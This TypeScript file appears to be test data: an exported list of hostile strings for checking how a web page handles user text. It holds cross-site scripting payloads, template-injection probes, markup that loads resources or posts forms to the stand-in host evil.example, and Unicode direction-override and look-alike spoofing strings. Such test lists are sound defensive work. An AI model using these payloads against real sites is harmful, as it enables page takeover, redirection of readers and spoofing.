/**
 * What somebody might type, name, send or be called to take a page over, to lead its readers
 * elsewhere, or to break its shape: a few of each kind. Whatever would run sets `__hit` and calls
 * `alert`, whatever would load asks evil.example, so that a test can tell.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Elements, and ways out of the element or attribute that a text might stand in.
  '<script>__hit=1;alert(1)</script>',
  '"><img src=x onerror=__hit=1,alert(1)>',
  "' autofocus tabindex=1 onfocus=__hit=1,alert(1) x='",
  '</textarea></title></style></script><svg/onload=__hit=1,alert(1)>',
  '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe><object data=//evil.example/o>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__hit=1>',
  '<base href=//evil.example><link rel=stylesheet href=//evil.example/c.css>',
  '<style>*{display:none}@import"//evil.example/i.css"</style><form action=//evil.example><input name=q>',
  '<b style="position:fixed;inset:0;background:url(//evil.example/b.png)">over</b>',
  // Where a text might be taken for a part of a script or of JSON-LD.
  '</script><script type="application/ld+json">{"@type":"Person"}</script><!--',
  "';__hit=1;//\\'-alert(1)-\\u0027",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  '${__hit=1}{{constructor.constructor("__hit=1")()}}<%= 7*7 %>#{7*7}[[7*7]]',
  // Entities, which are text as well.
  '&lt;script&gt;__hit=1&lt;/script&gt; &amp;#x27; &#60;b&#62; &nbsp;',
  // Addresses.
  'javascript:__hit=1//https://x.example/',
  ' \u0001java\tscript:__hit=1',
  'data:text/html,<script>__hit=1</script>',
  '//evil.example/%2e%2e/"onmouseover="__hit=1',
  "https://evil.example\\@x.example/?q=\"><script>__hit=1</script>#'-alert(1)-'",
  // The markup that comments do not have.
  '[x](javascript:__hit=1) ![x](https://evil.example/x.png) `code` # head <https://x.example>',
  '*_**__*~~ > > > | a | b | \\* \\< &copy;',
  // Direction: overrides and isolates that are never closed, and words of the other direction.
  '\u202Egpj.exe \u2066\u202Enwod edispu',
  'שלום \u2067\u202D abc مرحبا 123',
  // Letters: look-alikes, nothing to see, heaps of marks, long words.
  'Раураl Аdmin ⓢⓣⓐⓕⓕ \u200B\u200D\u2060\uFEFF\u00AD',
  `Z${'\u0351\u034a\u0316\u0332\u030d\u0326\u0335'.repeat(12)}algo`,
  `${'👩‍👩‍👧‍👦'.repeat(40)}\u{1F3F4}\u{E0067}\u{E0062}`,
  'W'.repeat(1000),
  `${'\u0644\u0627'.repeat(300)}`,
  `https://x.example/${'a'.repeat(700)}?${'b=%0A&'.repeat(20)}`,
  '\u{12031}\u{FDFD}'.repeat(20),
  // What no text should hold, and halves of characters.
  'a\u0000b\u0007c\u001B[31md\u0085e\uFFFEf\uD800g\uDFFFh',
  '__proto__ constructor toString null undefined NaN -1 true',
];
